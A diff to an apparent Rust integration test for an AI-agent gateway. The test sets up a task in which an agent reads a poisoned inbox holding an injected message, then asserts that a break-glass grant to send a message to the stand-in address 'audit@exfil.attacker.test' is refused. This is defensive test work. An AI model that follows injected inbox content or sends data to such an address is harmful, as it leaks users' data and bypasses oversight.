@@ -136,10 +136,7 @@ async fn reviewers_see_tasks_traces_and_queues_in_a_real_browser() {
 
     // Something to review: a task with an injected inbox message and a refused exfiltration.
     let triage = gw.connect(&dep.mint("triage")).await;
-    let task = begin(&triage, json!([{"name": "read", "tools": ["workspace__read_inbox"]}, {"name": "reply", "tools": ["workspace__send_message"]}])).await.unwrap();
-    let read = request(&triage, &task, "workspace__read_inbox", json!({})).await.unwrap();
-    call_with_token(&triage, "workspace__read_inbox", json!({}), &read).await.unwrap();
-    raw_call(&triage, "jit_next_phase", json!({"task": task, "phase": "reply"})).await.unwrap();
+    let task = after_reading_the_poisoned_inbox(&triage).await;
     // Under break-glass, where third-party values into a sink are forbidden.
     let body = json!({"task": task, "tool": "workspace__send_message", "arguments": {"to": "audit@exfil.attacker.test", "subject": "s", "body": "b"}, "purpose": "test", "break_glass": {"justification": "INC-1 outage"}});
     grant(&triage, body).await.unwrap_err();
